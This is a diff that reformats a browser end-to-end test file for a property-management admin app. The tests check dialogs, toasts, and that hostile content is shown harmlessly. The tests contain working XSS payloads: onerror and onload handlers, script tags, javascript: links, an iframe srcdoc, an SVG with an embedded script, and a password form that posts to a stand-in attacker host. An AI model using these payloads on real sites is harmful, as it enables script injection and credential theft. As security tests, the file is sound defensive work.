@@ -4,7 +4,9 @@ import { listed, rows } from './support/list-page.ts'
 import { logIn } from './support/log-in.ts'
 import { make, unique } from './support/records.ts'
 
-test('a question has its title, its words on both buttons and its width, also on a telephone; Escape is the way back', async ({ page }) => {
+test('a question has its title, its words on both buttons and its width, also on a telephone; Escape is the way back', async ({
+  page,
+}) => {
   await logIn(page, { at: '/stores/index/create' })
   await page.locator('form input[name=name]').fill('草稿')
   const ask = async () => {
@@ -30,7 +32,9 @@ test('a toast stands 50 px from the top for two seconds, and the same one is sai
   await page.clock.install()
   await logIn(page, { at: '/house/home-list' })
   await listed(page)
-  await page.route('**/v3/homes?*', (route) => route.fulfill({ status: 400, json: { err_code: 9999, err_msg: '这一次不行', data: null } }))
+  await page.route('**/v3/homes?*', (route) =>
+    route.fulfill({ status: 400, json: { err_code: 9999, err_msg: '这一次不行', data: null } }),
+  )
   const toasts = page.locator('[aria-live=polite]').getByText('这一次不行')
   for (let count = 0; count < 3; count += 1) await page.getByRole('button', { name: '刷新' }).click()
   await expect(toasts).toHaveCount(1)
@@ -39,12 +43,19 @@ test('a toast stands 50 px from the top for two seconds, and the same one is sai
   await expect(toasts).toHaveCount(0)
 })
 
-const HOSTILE = '<p>停水<b>通知</b></p><img src="x" onerror="document.title=\'hacked\'"><script>document.title=\'hacked\'</script><svg onload="document.title=\'hacked\'"><a xlink:href="javascript:document.title=\'hacked\'"><text>点</text></a></svg><a href="javascript:document.title=\'hacked\'">链接</a><iframe srcdoc="<script>top.document.title=\'hacked\'</script>"></iframe><form action="https://evil.example"><input name="pass"></form><p style="position:fixed;inset:0;z-index:99999">盖住</p>'
+const HOSTILE =
+  '<p>停水<b>通知</b></p><img src="x" onerror="document.title=\'hacked\'"><script>document.title=\'hacked\'</script><svg onload="document.title=\'hacked\'"><a xlink:href="javascript:document.title=\'hacked\'"><text>点</text></a></svg><a href="javascript:document.title=\'hacked\'">链接</a><iframe srcdoc="<script>top.document.title=\'hacked\'</script>"></iframe><form action="https://evil.example"><input name="pass"></form><p style="position:fixed;inset:0;z-index:99999">盖住</p>'
 
 test('a message that means harm is read as what it says, and runs, covers and asks nothing', async ({ page }) => {
   await logIn(page)
-  const message = await make(page, 'messages', { title: unique('<img src=x onerror=alert(1)>'), type: 1, content: HOSTILE })
-  page.on('dialog', () => { throw new Error('a script of the message ran') })
+  const message = await make(page, 'messages', {
+    title: unique('<img src=x onerror=alert(1)>'),
+    type: 1,
+    content: HOSTILE,
+  })
+  page.on('dialog', () => {
+    throw new Error('a script of the message ran')
+  })
   await page.goto('/message')
   await listed(page)
   await expect(rows(page).first()).toContainText('<img src=x onerror=alert(1)>')
@@ -61,7 +72,15 @@ test('a drawing with a script in it is shown as a picture and leads nowhere', as
   const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="document.title='hacked'"><script>document.title='hacked'</script><rect width="9" height="9"/></svg>`
   const url = `data:image/svg+xml,${encodeURIComponent(drawing)}`
   const ticket = await make(page, 'tickets', {
-    service_type: 2, service_target: 1, home_id: 1, room_id: 4, fault: '门锁没有反应', contact_name: '林岚', contact_phone: '13800000001', appointment_date: '2099-01-01', appointment_period: 1,
+    service_type: 2,
+    service_target: 1,
+    home_id: 1,
+    room_id: 4,
+    fault: '门锁没有反应',
+    contact_name: '林岚',
+    contact_phone: '13800000001',
+    appointment_date: '2099-01-01',
+    appointment_period: 1,
     pictures: [{ name: '现场.svg', url, size: drawing.length, type: 'image/svg+xml' }],
   })
   await page.goto(`/ticket/${String(ticket['ticket_id'])}`)
